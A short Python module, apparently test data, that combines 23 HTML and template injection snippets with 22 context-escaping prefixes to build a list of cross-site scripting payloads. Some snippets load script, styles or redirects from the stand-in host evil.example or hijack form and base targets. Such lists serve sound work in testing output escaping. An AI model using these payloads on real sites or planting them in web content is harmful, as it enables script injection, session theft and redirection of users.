"""Texts that would do something if a page printed them as they are."""

from itertools import product

#: Would run where an element may stand.
_ELEMENTS = (
    "<script>alert({n})</script>",
    "<ScRiPt src=//evil.example/{n}.js></sCrIpT>",
    "<img src=x onerror=alert({n})>",
    "<svg/onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<body onload=alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'>",
    "<iframe src=javascript:alert({n})>",
    "<a href=javascript:alert({n})>x</a>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<form action=//evil.example><button>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css'</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert({n})>",
    "<object data=javascript:alert({n})>",
    "<template><script>alert({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<video><source onerror=alert({n})></video>",
    "{{{{ 7*{n} }}}}{{% for x in y %}}",
    "${{7*{n}}}<%= {n} %>",
)
#: Lead out of where a text stands.
_BEFORE = (
    "",
    '">',
    "'>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "</code></pre>",
    "</textarea></title></style>",
    "</script>",
    "</td></tr></table>",
    "--><!--",
    "]]>",
    "\u2028",
    "\x00",
    "\u202e",
    "&lt;",
    "%3C",
    "+ADw-",
    "\\u003c",
    "\uff1c",
    "\x1b[31m",
    "javascript:",
    "\r\n\r\n",
)

XSS = tuple(
    f"{before}{element.format(n=number)}"
    for number, (before, element) in enumerate(product(_BEFORE, _ELEMENTS))
)
